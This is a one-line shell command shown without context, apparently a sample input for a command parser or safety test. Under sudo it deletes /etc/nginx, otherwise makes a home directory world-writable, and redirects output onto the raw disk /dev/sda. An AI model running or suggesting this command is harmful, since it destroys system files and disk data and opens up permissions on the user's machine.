sudo env FOO=1 bash -c "cd / && rm -rf /etc/nginx || chmod -R 777 ~/x" > /dev/sda
